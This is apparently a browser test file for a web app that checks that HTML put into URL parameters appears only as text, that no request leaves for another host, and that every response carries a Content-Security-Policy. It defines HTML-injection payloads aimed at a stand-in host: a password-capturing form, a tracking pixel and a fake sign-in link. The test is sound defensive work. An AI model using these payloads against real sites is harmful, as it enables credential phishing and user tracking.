"""No HTML from a link: a value a link puts into a pop-up, a notice or an
error reads as the text it is, and the page asks no other host for anything (its
Content-Security-Policy refuses remote images, forms and scripts)."""

from __future__ import annotations

from urllib.parse import quote, urlsplit

import pytest

from helpers.page import TIMEOUT_MS, wait_quiet, wait_toast, watch

pytestmark = pytest.mark.browser

FORM = "<form action=//evil.example><input name=p type=password placeholder=Password>"
PIXEL = "<img src=https://evil.example/pixel.png>"
LOGIN = "<a href=https://evil.example/login>Session expired: sign in</a>"
LINKS = [("seed", FORM), ("model", PIXEL), ("model", LOGIN)]

# Whether any element the values describe exists in the page.
INJECTED_JS = """() => Boolean(document.querySelector(
  'input[type=password], img[src*="evil.example"], a[href*="evil.example"], form[action*="evil.example"]'))"""


@pytest.mark.parametrize("key,value", LINKS, ids=["form", "pixel", "login"])
def test_a_links_html_reads_as_text_and_nothing_leaves_for_another_host(browser, app_url, key, value):
    context = browser.new_context(viewport={"width": 1400, "height": 900}, locale="en-US")
    elsewhere: list[str] = []
    own_host = urlsplit(app_url).hostname

    def keep_home(route):
        host = urlsplit(route.request.url).hostname
        if host and host != own_host:
            elsewhere.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", keep_home)
    watch(context)                          # every toast recorded, even one gone before it is read
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    try:
        page.goto(f"{app_url}?tab=maps&{key}={quote(value)}")
        page.wait_for_selector("#tab-maps-button[aria-selected=true], button[aria-selected=true]")
        # The restore's notices, then the draw's own answer: waited for as the page reports them
        # (a loaded machine takes longer, and the wait follows), then until the page is quiet.
        seen = wait_toast(page, value[:12])     # the value is quoted as text (cut to the echo limit)
        wait_quiet(page)
        assert not page.evaluate(INJECTED_JS), seen
        assert not elsewhere, elsewhere
    finally:
        context.close()


def test_the_page_and_its_figures_draw_under_the_policy(browser, app_url):
    context = browser.new_context(viewport={"width": 1400, "height": 900}, locale="en-US")
    watch(context)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    try:
        page.goto(f"{app_url}?tab=maps")
        page.wait_for_selector("#maps-plot .js-plotly-plot .main-svg")
        # Everything the page asked for has arrived, or been refused. The queue's stream is left
        # out: what this test reads (the console) does not depend on it closing.
        wait_quiet(page, queue=False)
        refused = [m for m in console if "Content Security Policy" in m]
        assert not refused, refused[:3]
    finally:
        context.close()


def test_every_response_carries_the_content_security_policy(app_url):
    import urllib.request

    for path in ("", "gradio_api/info", "config"):
        with urllib.request.urlopen(app_url + path, timeout=60) as r:
            policy = r.headers.get("Content-Security-Policy", "")
        assert "img-src 'self'" in policy and "form-action 'self'" in policy, (path, policy)
        assert "script-src 'self'" in policy, (path, policy)
